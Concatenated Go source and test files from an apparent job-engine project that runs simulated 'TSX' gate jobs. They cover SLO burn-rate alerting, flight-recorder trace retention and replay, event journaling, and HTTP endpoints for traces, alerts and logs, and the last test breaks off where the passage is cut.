			BurnRate: 14.4, ResolveRatio: 0.9,
		}},
	}}
}

// TestSLODriftBurnsBudgetFiresAndReplays is the tentpole acceptance
// scenario: deterministic mem-latency drift flips decoded gate bits,
// the gate-accuracy SLO burns its error budget, the fast multi-window
// burn-rate alert fires within its 5-minute short window on the
// virtual clock, the alert payload names the failing job's kept flight
// recording (pinned against eviction), and replaying the recorded
// event log offline reproduces the live alert timeline byte-for-byte.
func TestSLODriftBurnsBudgetFiresAndReplays(t *testing.T) {
	hcfg := health.Config{BaselineSamples: 48}
	reg := metrics.NewRegistry()
	fr := flightrec.New(flightrec.Config{MaxKept: 4, ErrorRing: 4, Metrics: reg})
	var journal bytes.Buffer
	log := evlog.New(evlog.Config{W: &journal})
	clk := newSLOClock()
	sloEng, err := slo.New(slo.Config{
		SLOs: tightGateSLO(), Log: log, Pinner: fr, Clock: clk.Now, Metrics: reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	e := newTestEngine(t, Config{
		Workers: 1, FlightRec: fr, Metrics: reg, Health: &hcfg, SLO: sloEng, Log: log,
	})
	rig := e.rigs[0]

	// Healthy phase: 8 gate jobs, 16 correct ops each, no alert.
	submitGateBatch(t, e, 8)
	if n := sloEng.Firing(); n != 0 {
		t.Fatalf("healthy traffic fired %d alerts", n)
	}

	// Inject the deterministic drift from the flight-recorder scenario:
	// a -60-cycle DRAM latency shift flips decoded bits, the job fails
	// its accuracy floor, and its bad ops charge the gate-accuracy
	// budget.
	cfg := rig.Machine.Noise().Config()
	cfg.MemLatencyDelta = -60
	rig.Machine.Noise().SetConfig(cfg)
	j := mustSubmit(t, e, JobSpec{
		Type:      JobTypeGate,
		RequestID: "req-drift",
		Params:    rawParams(t, GateParams{Gate: "TSX_AND", Random: 64, MinAccuracy: 0.95}),
	})
	snap := waitJob(t, j)
	if snap.Status != StatusFailed {
		t.Fatalf("drifted job finished %s (%s), want failed", snap.Status, snap.Error)
	}

	// The fast page fires on the drift job's own observation.
	if n := sloEng.Firing(); n == 0 {
		t.Fatal("drift burned no alert")
	}
	timeline := sloEng.Timeline()
	if len(timeline) == 0 {
		t.Fatal("no transitions recorded")
	}
	fire := timeline[0]
	if fire.State != slo.StateFiring || fire.Policy != "fast" || fire.Severity != slo.SeverityPage {
		t.Fatalf("first transition %+v, want the fast page firing", fire)
	}
	if fire.BurnShort < 14.4 || fire.BurnLong < 14.4 {
		t.Fatalf("fire burn rates %v/%v below the 14.4 threshold", fire.BurnShort, fire.BurnLong)
	}
	// Within the 5-minute short window on the virtual clock: 9 jobs at
	// one second apiece.
	if elapsed := fire.At.Sub(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)); elapsed >= 5*time.Minute {
		t.Fatalf("alert fired %v after epoch, outside the 5m short window", elapsed)
	}

	// The payload correlates: it names the failing job's kept trace,
	// the id resolves to a flight recording, and that recording is now
	// pinned against eviction.
	if len(fire.TraceIDs) == 0 {
		t.Fatal("firing transition carries no correlated trace ids")
	}
	found := false
	for _, id := range fire.TraceIDs {
		if id == j.ID() {
			found = true
		}
		if _, ok := fr.Get(id); !ok {
			t.Fatalf("alert trace id %s does not resolve to a kept recording", id)
		}
	}
	if !found {
		t.Fatalf("alert trace ids %v miss the drift job %s", fire.TraceIDs, j.ID())
	}
	if fr.AlertPins() == 0 {
		t.Fatal("firing alert pinned no traces")
	}
	pinned := false
	for _, ent := range fr.Index() {
		if ent.ID == j.ID() && ent.AlertPinned {
			pinned = true
		}
	}
	if !pinned {
		t.Fatal("drift job's index entry is not alert-pinned")
	}

	// The alerts view agrees with the timeline.
	var firing *slo.Alert
	for _, a := range sloEng.Alerts() {
		if a.State == slo.StateFiring && a.Policy == "fast" {
			a := a
			firing = &a
		}
	}
	if firing == nil {
		t.Fatal("alerts view shows no firing fast policy")
	}
	if len(firing.TraceIDs) == 0 {
		t.Fatal("alerts view dropped the correlated trace ids")
	}

	// Quiesce the engine before touching the journal: the worker's
	// post-job drift check journals its recalibration asynchronously,
	// and Close is idempotent so the Cleanup close stays a no-op.
	closeCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := e.Close(closeCtx); err != nil {
		t.Fatalf("drain before replay: %v", err)
	}

	// Offline replay: decode the journal, feed it through a fresh
	// engine, and require the identical timeline — byte-for-byte.
	records, err := evlog.DecodeJSONL(&journal)
	if err != nil {
		t.Fatal(err)
	}
	replayed, err := slo.Replay(records, slo.Config{SLOs: tightGateSLO()})
	if err != nil {
		t.Fatal(err)
	}
	liveJSON, err := json.Marshal(timeline)
	if err != nil {
		t.Fatal(err)
	}
	replayJSON, err := json.Marshal(replayed.Timeline())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(liveJSON, replayJSON) {
		t.Fatalf("replayed timeline diverged from live\nlive:   %s\nreplay: %s", liveJSON, replayJSON)
	}
}

// TestEngineJournalsOperationalEvents checks the evlog wiring at the
// engine's boundaries: a retried job leaves a correlated job.retry
// record, and the SLO journal carries one observation per terminal
// job.
func TestEngineJournalsOperationalEvents(t *testing.T) {
	calls := 0
	Register("test-retry-log", func(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
		calls++
		if calls == 1 {
			return nil, errors.New("transient wobble")
		}
		return "ok", nil
	})
	log := evlog.New(evlog.Config{})
	clk := newSLOClock()
	sloEng, err := slo.New(slo.Config{SLOs: tightGateSLO(), Log: log, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	e := newTestEngine(t, Config{Workers: 1, SLO: sloEng, Log: log})

	j := mustSubmit(t, e, JobSpec{Type: "test-retry-log", RequestID: "req-retry", Attempts: 2})
	snap := waitJob(t, j)
	if snap.Status != StatusDone {
		t.Fatalf("retried job: %s (%s)", snap.Status, snap.Error)
	}

	var retry, observe bool
	for _, r := range log.Recent() {
		switch {
		case r.Component == "engine" && r.Event == "job.retry":
			if r.JobID != j.ID() || r.RequestID != "req-retry" {
				t.Fatalf("retry record lost correlation: %+v", r)
			}
			if r.Level != evlog.Warn || r.Fields.Get("reason") == "" {
				t.Fatalf("retry record malformed: %+v", r)
			}
			retry = true
		case r.Component == slo.Component && r.Event == slo.ObserveEvent && r.JobID == j.ID():
			observe = true
		}
	}
	if !retry {
		t.Fatal("no job.retry record journaled")
	}
	if !observe {
		t.Fatal("no slo.observe record journaled for the terminal job")
	}
}
