package engine

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"uwm/internal/flightrec"
	"uwm/internal/health"
	"uwm/internal/metrics"
)

// TestFlightRecorderHealthyTrafficRetainsNothing is half of the
// acceptance criterion: with head sampling off, a stream of healthy,
// fast, first-try jobs leaves the recorder empty.
func TestFlightRecorderHealthyTrafficRetainsNothing(t *testing.T) {
	fr := flightrec.New(flightrec.Config{}) // zero HeadRate
	e := newTestEngine(t, Config{Workers: 1, FlightRec: fr})
	submitGateBatch(t, e, 6)
	if idx := fr.Index(); len(idx) != 0 {
		t.Fatalf("healthy traffic left %d kept traces: %+v", len(idx), idx)
	}
}

// TestFlightRecorderErrorKeepAndVerdictReplay is the tentpole
// acceptance scenario: inject deterministic drift, force a job to fail
// its accuracy floor, and check that (a) the failure's trace is kept
// and pinned, retrievable by job and request id, (b) replaying the
// fetched events through a fresh health monitor reproduces the live
// drift verdict byte-for-byte, and (c) healthy traffic afterwards never
// evicts the pinned error.
func TestFlightRecorderErrorKeepAndVerdictReplay(t *testing.T) {
	hcfg := health.Config{BaselineSamples: 48}
	reg := metrics.NewRegistry()
	// MaxEventsPerTrace -1: byte-for-byte replay needs every read of the
	// failing job; a truncated ring would replay a weaker verdict.
	fr := flightrec.New(flightrec.Config{MaxKept: 4, ErrorRing: 4, MaxEventsPerTrace: -1, Metrics: reg})
	e := newTestEngine(t, Config{Workers: 1, FlightRec: fr, Metrics: reg, Health: &hcfg})
	rig := e.rigs[0]

	// Healthy phase establishes the monitor baseline.
	submitGateBatch(t, e, 8)

	// Inject drift strong enough to pull miss latencies across the
	// threshold: decoded bits flip and the accuracy floor fails the job.
	cfg := rig.Machine.Noise().Config()
	cfg.MemLatencyDelta = -60
	rig.Machine.Noise().SetConfig(cfg)
	j := mustSubmit(t, e, JobSpec{
		Type:      JobTypeGate,
		RequestID: "req-failure",
		Params:    rawParams(t, GateParams{Gate: "TSX_AND", Random: 64, MinAccuracy: 0.95}),
	})
	snap := waitJob(t, j)
	if snap.Status != StatusFailed {
		t.Fatalf("drifted job finished %s (%s), want failed", snap.Status, snap.Error)
	}
	if !strings.Contains(snap.Error, "below floor") {
		t.Fatalf("failure %q does not name the accuracy floor", snap.Error)
	}

	kt, ok := fr.Get(j.ID())
	if !ok {
		t.Fatal("failed job's trace was not kept")
	}
	if byReq, ok := fr.Get("req-failure"); !ok || byReq != kt {
		t.Fatal("trace not resolvable by request id")
	}
	ent := kt.Entry
	if !ent.Kept || ent.Reason != flightrec.ReasonError || !ent.Pinned {
		t.Fatalf("entry %+v, want kept pinned error", ent)
	}
	if ent.ID != j.ID() || ent.RequestID != "req-failure" || ent.Type != JobTypeGate || ent.Status != string(StatusFailed) {
		t.Fatalf("entry identity wrong: %+v", ent)
	}
	if ent.Verdict == nil {
		t.Fatal("entry carries no live verdict")
	}
	if len(kt.Events) == 0 {
		t.Fatal("kept trace holds no events")
	}
	// The capture opens with the monitor's drift-state checkpoint — that
	// is what makes the single-job recording self-contained.
	if first := kt.Events[0]; !strings.HasPrefix(first.Text, health.StateEventPrefix) {
		t.Fatalf("first event %q is not the health checkpoint", first.Text)
	}

	// Replay the recording offline through the same monitor config the
	// worker ran. The drift verdict must match the live one exactly.
	liveJSON, err := json.Marshal(ent.Verdict)
	if err != nil {
		t.Fatal(err)
	}
	replayVerdict := health.Replay(kt.Events, hcfg).Verdict()
	replayJSON, err := json.Marshal(&replayVerdict)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(liveJSON, replayJSON) {
		t.Fatalf("replayed verdict diverged from live\nlive:   %s\nreplay: %s", liveJSON, replayJSON)
	}
	if !replayVerdict.Drifting {
		t.Error("replayed verdict is not drifting — the injected drift left no evidence")
	}

	// The kept trace's latency sample carries a trace-id exemplar.
	var expo strings.Builder
	if err := reg.WriteText(&expo); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(expo.String(), `trace_id="`+j.ID()+`"`) {
		t.Errorf("latency histogram has no exemplar for %s", j.ID())
	}

	// After the failure the worker recalibrates at the job boundary, so
	// follow-up traffic is healthy again — and must never evict the
	// pinned error, no matter how much of it arrives.
	submitGateBatch(t, e, 10)
	if _, ok := fr.Get(j.ID()); !ok {
		t.Fatal("pinned error evicted by healthy traffic")
	}
	if _, ok := fr.Get("req-failure"); !ok {
		t.Fatal("request-id mapping lost")
	}
}

// TestWorkerPanicDumpsPostmortem checks the crash path: a panicking
// handler is isolated to a failed attempt, the pool survives, and the
// flight recorder dumps its kept traces to the post-mortem directory.
func TestWorkerPanicDumpsPostmortem(t *testing.T) {
	Register("test-panic", func(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
		panic("gate fell over")
	})
	dir := filepath.Join(t.TempDir(), "postmortem")
	fr := flightrec.New(flightrec.Config{PostmortemDir: dir})
	e := newTestEngine(t, Config{Workers: 1, FlightRec: fr})

	j := mustSubmit(t, e, JobSpec{Type: "test-panic"})
	snap := waitJob(t, j)
	if snap.Status != StatusFailed || !strings.Contains(snap.Error, "panic") {
		t.Fatalf("panicking job: %s (%s), want failed with panic", snap.Status, snap.Error)
	}

	// The pool survived: the same worker still serves jobs.
	submitGateBatch(t, e, 1)

	b, err := os.ReadFile(filepath.Join(dir, "index.json"))
	if err != nil {
		t.Fatalf("post-mortem index not written: %v", err)
	}
	var entries []flightrec.Entry
	if err := json.Unmarshal(b, &entries); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, ent := range entries {
		if ent.ID == j.ID() && ent.Reason == flightrec.ReasonError {
			found = true
		}
	}
	if !found {
		t.Fatalf("panic job missing from post-mortem index: %+v", entries)
	}
	if _, err := os.Stat(filepath.Join(dir, j.ID()+".jsonl")); err != nil {
		t.Fatalf("panic job's trace file missing: %v", err)
	}
}

// TestDisagreementBallots checks the Ballots plumbing the recorder's
// keep-on-disagreement rule reads.
func TestDisagreementBallots(t *testing.T) {
	split := 0
	Register("test-ballots", func(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
		split++
		return split, nil
	})
	fr := flightrec.New(flightrec.Config{}) // HeadRate 0: only the tail rules keep
	e := newTestEngine(t, Config{Workers: 1, FlightRec: fr})

	j := mustSubmit(t, e, JobSpec{Type: "test-ballots", Attempts: 3, Vote: 2})
	snap := waitJob(t, j)
	if snap.Status != StatusDone || snap.Result == nil {
		t.Fatalf("split job: %+v", snap)
	}
	if snap.Result.Ballots != 3 {
		t.Fatalf("ballots = %d, want 3 distinct candidates", snap.Result.Ballots)
	}
	kt, ok := fr.Get(j.ID())
	if !ok {
		t.Fatal("disagreeing job's trace was not kept")
	}
	if kt.Entry.Reason != flightrec.ReasonDisagreement || !kt.Entry.Disagreement {
		t.Fatalf("entry %+v, want keep-on-disagreement", kt.Entry)
	}
}
