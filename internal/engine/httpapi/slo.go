package httpapi

import (
	"encoding/json"
	"fmt"
	"net/http"

	"uwm/internal/engine"
	"uwm/internal/evlog"
	"uwm/internal/slo"
)

// sloBody is the GET /v1/slo payload.
type sloBody struct {
	SLOs []slo.SLOStatus `json:"slos"`
}

// alertsBody is the GET /v1/alerts payload.
type alertsBody struct {
	Alerts []slo.Alert `json:"alerts"`
	Firing int         `json:"firing"`
}

// logsBody is the GET /v1/logs payload.
type logsBody struct {
	Records []evlog.Record `json:"records"`
}

// sloStatus serves every SLO's budget and per-policy burn rates.
func sloStatus(e *engine.Engine, w http.ResponseWriter, _ *http.Request) {
	se := e.SLO()
	if se == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "slo engine disabled (engine started without one)"})
		return
	}
	st := se.StatusNow()
	if st == nil {
		st = []slo.SLOStatus{}
	}
	writeJSON(w, http.StatusOK, sloBody{SLOs: st})
}

// alerts serves the flat alert view: one row per (SLO, policy), with
// the correlated kept-trace ids attached to firing rows.
func alerts(e *engine.Engine, w http.ResponseWriter, _ *http.Request) {
	se := e.SLO()
	if se == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "slo engine disabled (engine started without one)"})
		return
	}
	as := se.Alerts()
	if as == nil {
		as = []slo.Alert{}
	}
	writeJSON(w, http.StatusOK, alertsBody{Alerts: as, Firing: se.Firing()})
}

// alertsStream is the SSE live tail of alert transitions, mirroring
// the flight recorder's decision stream: every fire and resolve
// reaches the client as one `transition` event.
func alertsStream(e *engine.Engine, w http.ResponseWriter, r *http.Request) {
	se := e.SLO()
	if se == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "slo engine disabled (engine started without one)"})
		return
	}
	fl, ok := w.(http.Flusher)
	if !ok {
		writeJSON(w, http.StatusInternalServerError,
			errorBody{Error: "streaming unsupported by this connection"})
		return
	}
	id, ch := se.Subscribe()
	defer se.Unsubscribe(id)

	h := w.Header()
	h.Set("Content-Type", "text/event-stream")
	h.Set("Cache-Control", "no-cache")
	w.WriteHeader(http.StatusOK)
	fmt.Fprint(w, ": uwm alert live tail\n\n")
	fl.Flush()
	for {
		select {
		case <-r.Context().Done():
			return
		case tr, open := <-ch:
			if !open {
				return
			}
			b, err := json.Marshal(tr)
			if err != nil {
				continue
			}
			fmt.Fprintf(w, "event: transition\ndata: %s\n\n", b)
			fl.Flush()
		}
	}
}

// logs serves the event log's in-memory ring, oldest first.
func logs(e *engine.Engine, w http.ResponseWriter, _ *http.Request) {
	lg := e.EventLog()
	if lg == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "event log disabled (engine started without one)"})
		return
	}
	recs := lg.Recent()
	if recs == nil {
		recs = []evlog.Record{}
	}
	writeJSON(w, http.StatusOK, logsBody{Records: recs})
}
