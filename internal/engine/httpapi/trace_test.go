package httpapi

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"uwm/internal/engine"
	"uwm/internal/flightrec"
)

// submitGate sync-submits one gate job with the given request id and
// returns the terminal snapshot.
func submitGate(t *testing.T, base, requestID string) engine.Snapshot {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, base+"/v1/jobs?wait=1",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	if requestID != "" {
		req.Header.Set("X-Request-Id", requestID)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		t.Fatalf("submit status %d: %s", resp.StatusCode, body)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.Status != engine.StatusDone {
		t.Fatalf("job %s: %s (%s)", snap.ID, snap.Status, snap.Error)
	}
	return snap
}

func TestJobTraceEndpoint(t *testing.T) {
	fr := flightrec.New(flightrec.Config{HeadRate: 1})
	_, srv := newServer(t, engine.Config{Workers: 1, FlightRec: fr})
	snap := submitGate(t, srv.URL, "req-trace-1")

	// By job id, default (JSONL) format.
	resp, err := http.Get(srv.URL + "/v1/jobs/" + snap.ID + "/trace")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("trace status %d, want 200", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("content type %q, want application/x-ndjson", ct)
	}
	if d := resp.Header.Get("X-Trace-Decision"); d != flightrec.ReasonHead {
		t.Errorf("X-Trace-Decision %q, want %q", d, flightrec.ReasonHead)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(string(body), "\n"), "\n")
	if len(lines) == 0 {
		t.Fatal("empty trace body")
	}
	for i, line := range lines {
		var ev map[string]any
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("line %d is not JSON: %v (%q)", i, err, line)
		}
	}

	// By request id: same trace.
	resp, err = http.Get(srv.URL + "/v1/jobs/req-trace-1/trace")
	if err != nil {
		t.Fatal(err)
	}
	byReq, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("by-request-id status %d err %v", resp.StatusCode, err)
	}
	if string(byReq) != string(body) {
		t.Error("request-id fetch returned a different trace")
	}

	// Chrome format is a JSON array chrome://tracing loads.
	resp, err = http.Get(srv.URL + "/v1/jobs/" + snap.ID + "/trace?format=chrome")
	if err != nil {
		t.Fatal(err)
	}
	chrome, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("chrome status %d err %v", resp.StatusCode, err)
	}
	var doc struct {
		TraceEvents []map[string]any `json:"traceEvents"`
	}
	if err := json.Unmarshal(chrome, &doc); err != nil {
		t.Fatalf("chrome body is not a trace_event document: %v", err)
	}
	if len(doc.TraceEvents) == 0 {
		t.Fatal("chrome document holds no events")
	}
}

func TestJobTraceErrorPaths(t *testing.T) {
	fr := flightrec.New(flightrec.Config{HeadRate: 1})
	_, srv := newServer(t, engine.Config{Workers: 1, FlightRec: fr})
	snap := submitGate(t, srv.URL, "")

	resp, err := http.Get(srv.URL + "/v1/jobs/no-such-job/trace")
	if err != nil {
		t.Fatal(err)
	}
	var eb errorBody
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown id status %d, want 404", resp.StatusCode)
	}
	decode(t, resp, &eb)
	if !strings.Contains(eb.Error, "no kept trace") {
		t.Errorf("404 body %q does not explain the miss", eb.Error)
	}

	resp, err = http.Get(srv.URL + "/v1/jobs/" + snap.ID + "/trace?format=perfetto")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad format status %d, want 400", resp.StatusCode)
	}
	decode(t, resp, &eb)
	if !strings.Contains(eb.Error, "perfetto") {
		t.Errorf("400 body %q does not name the bad format", eb.Error)
	}
}

func TestTraceEndpointsWithoutRecorder(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1}) // no FlightRec
	for _, path := range []string{"/v1/jobs/x/trace", "/v1/traces", "/v1/traces/stream"} {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s status %d, want 404", path, resp.StatusCode)
		}
		var eb errorBody
		decode(t, resp, &eb)
		if !strings.Contains(eb.Error, "disabled") {
			t.Errorf("%s body %q does not say the recorder is disabled", path, eb.Error)
		}
	}
}

func TestTracesIndex(t *testing.T) {
	fr := flightrec.New(flightrec.Config{HeadRate: 1})
	_, srv := newServer(t, engine.Config{Workers: 1, FlightRec: fr})
	snap := submitGate(t, srv.URL, "req-idx-1")

	resp, err := http.Get(srv.URL + "/v1/traces")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("index status %d, want 200", resp.StatusCode)
	}
	var entries []flightrec.Entry
	decode(t, resp, &entries)
	if len(entries) != 1 {
		t.Fatalf("index holds %d entries, want 1", len(entries))
	}
	e := entries[0]
	if e.ID != snap.ID || e.RequestID != "req-idx-1" || !e.Kept || e.Reason != flightrec.ReasonHead {
		t.Fatalf("index entry %+v, want kept head sample for %s", e, snap.ID)
	}
}

func TestTraceparentAdoptedAsRequestID(t *testing.T) {
	fr := flightrec.New(flightrec.Config{HeadRate: 1})
	_, srv := newServer(t, engine.Config{Workers: 1, FlightRec: fr})

	traceID := "4bf92f3577b34da6a3ce929d0e0e4736"
	req, err := http.NewRequest(http.MethodPost, srv.URL+"/v1/jobs?wait=1",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_AND","random":2}}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("traceparent", "00-"+traceID+"-00f067aa0ba902b7-01")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if got := resp.Header.Get("X-Request-Id"); got != traceID {
		t.Fatalf("X-Request-Id %q, want the traceparent trace-id %q", got, traceID)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.RequestID != traceID {
		t.Fatalf("job request id %q, want %q", snap.RequestID, traceID)
	}

	// The flight recording resolves under the distributed trace id.
	resp, err = http.Get(srv.URL + "/v1/jobs/" + traceID + "/trace")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("trace by traceparent id status %d, want 200", resp.StatusCode)
	}

	// A malformed or all-zero traceparent is ignored, not adopted.
	for _, bad := range []string{
		"00-00000000000000000000000000000000-00f067aa0ba902b7-01",
		"garbage",
		"00-shortid-00f067aa0ba902b7-01",
	} {
		req, _ := http.NewRequest(http.MethodGet, srv.URL+"/healthz", nil)
		req.Header.Set("traceparent", bad)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if got := resp.Header.Get("X-Request-Id"); got == "" || strings.Contains(bad, got) {
			t.Errorf("traceparent %q: X-Request-Id %q, want a fresh id", bad, got)
		}
	}
}

func TestTracesStreamDeliversAndReleases(t *testing.T) {
	fr := flightrec.New(flightrec.Config{}) // decisions stream even when dropped
	e, srv := newServer(t, engine.Config{Workers: 1, FlightRec: fr})

	resp, err := http.Get(srv.URL + "/v1/traces/stream")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("stream status %d, want 200", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("content type %q, want text/event-stream", ct)
	}

	snap := submitGate(t, srv.URL, "req-sse-1")

	sc := bufio.NewScanner(resp.Body)
	var entry flightrec.Entry
	found := false
	for sc.Scan() {
		line := sc.Text()
		if !strings.HasPrefix(line, "data: ") {
			continue
		}
		if err := json.Unmarshal([]byte(line[len("data: "):]), &entry); err != nil {
			t.Fatalf("bad SSE payload %q: %v", line, err)
		}
		found = true
		break
	}
	if !found {
		t.Fatalf("no decision event on the stream: %v", sc.Err())
	}
	if entry.ID != snap.ID || entry.Kept || entry.Reason != flightrec.ReasonSampledOut {
		t.Fatalf("streamed entry %+v, want sampled-out decision for %s", entry, snap.ID)
	}

	// Disconnecting must release the subscription.
	resp.Body.Close()
	deadline := time.Now().Add(5 * time.Second)
	for e.FlightRecorder().Subscribers() != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("subscription leaked: %d subscribers", e.FlightRecorder().Subscribers())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestTraceRetrievalRacesCompletion hammers the trace endpoints while
// jobs complete — the -race run is the assertion.
func TestTraceRetrievalRacesCompletion(t *testing.T) {
	fr := flightrec.New(flightrec.Config{HeadRate: 1, MaxKept: 4})
	_, srv := newServer(t, engine.Config{Workers: 2, FlightRec: fr})

	const jobs = 8
	var wg sync.WaitGroup
	ids := make(chan string, jobs)
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < jobs; i++ {
			ids <- submitGate(t, srv.URL, fmt.Sprintf("req-race-%d", i)).ID
		}
		close(ids)
	}()
	wg.Add(1)
	go func() {
		defer wg.Done()
		for id := range ids {
			for _, path := range []string{"/v1/traces", "/v1/jobs/" + id + "/trace"} {
				resp, err := http.Get(srv.URL + path)
				if err != nil {
					t.Error(err)
					return
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
		}
	}()
	wg.Wait()
}
