package httpapi

import (
	"bufio"
	"context"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"
	"time"

	"uwm/internal/engine"
	"uwm/internal/evlog"
	"uwm/internal/flightrec"
	"uwm/internal/slo"
)

// tightLatencySLO pages on every completed job: a 1µs threshold no
// real gate job can meet, so a handful of submissions exhausts the
// budget deterministically.
func tightLatencySLO() []slo.Definition {
	return []slo.Definition{{
		Name: "job-latency", Kind: slo.KindLatency, Objective: 0.99,
		LatencyThreshold: slo.Duration(time.Microsecond), MinEvents: 5,
	}}
}

func submitN(t *testing.T, srv *httptest.Server, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
			strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("submit %d: status %d", i, resp.StatusCode)
		}
	}
}

func TestSLOEndpointsDisabledWithoutEngine(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	for _, path := range []string{"/v1/slo", "/v1/alerts", "/v1/alerts/stream", "/v1/logs"} {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Fatalf("GET %s without slo/log: status %d, want 404", path, resp.StatusCode)
		}
	}
}

func TestSLOStatusAndAlerts(t *testing.T) {
	log := evlog.New(evlog.Config{})
	sloEng, err := slo.New(slo.Config{SLOs: tightLatencySLO(), Log: log})
	if err != nil {
		t.Fatal(err)
	}
	_, srv := newServer(t, engine.Config{Workers: 1, SLO: sloEng, Log: log})
	submitN(t, srv, 8)

	resp, err := http.Get(srv.URL + "/v1/slo")
	if err != nil {
		t.Fatal(err)
	}
	var sb sloBody
	decode(t, resp, &sb)
	if len(sb.SLOs) != 1 || sb.SLOs[0].Name != "job-latency" {
		t.Fatalf("slo body %+v", sb)
	}
	if sb.SLOs[0].BadEvents < 8 {
		t.Fatalf("bad events %v, want all 8 jobs over the 1µs threshold", sb.SLOs[0].BadEvents)
	}
	if sb.SLOs[0].BudgetConsumed <= 0 {
		t.Fatal("no budget consumed")
	}

	resp, err = http.Get(srv.URL + "/v1/alerts")
	if err != nil {
		t.Fatal(err)
	}
	var ab alertsBody
	decode(t, resp, &ab)
	if ab.Firing == 0 {
		t.Fatalf("no alert firing: %+v", ab)
	}
	foundFiring := false
	for _, a := range ab.Alerts {
		if a.State == slo.StateFiring && a.SLO == "job-latency" {
			foundFiring = true
		}
	}
	if !foundFiring {
		t.Fatalf("alerts view missing the firing latency alert: %+v", ab.Alerts)
	}

	resp, err = http.Get(srv.URL + "/v1/logs")
	if err != nil {
		t.Fatal(err)
	}
	var lb logsBody
	decode(t, resp, &lb)
	observe, fire := 0, 0
	for _, r := range lb.Records {
		switch r.Event {
		case slo.ObserveEvent:
			observe++
		case slo.FireEvent:
			fire++
		}
	}
	if observe < 8 || fire == 0 {
		t.Fatalf("log ring has %d observe / %d fire records, want >=8 / >=1", observe, fire)
	}
}

func TestAlertsStreamDeliversTransitions(t *testing.T) {
	sloEng, err := slo.New(slo.Config{SLOs: tightLatencySLO()})
	if err != nil {
		t.Fatal(err)
	}
	_, srv := newServer(t, engine.Config{Workers: 1, SLO: sloEng})

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, srv.URL+"/v1/alerts/stream", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("content type %q", ct)
	}

	submitN(t, srv, 8)

	sc := bufio.NewScanner(resp.Body)
	var event, data string
	for sc.Scan() {
		line := sc.Text()
		switch {
		case strings.HasPrefix(line, "event: "):
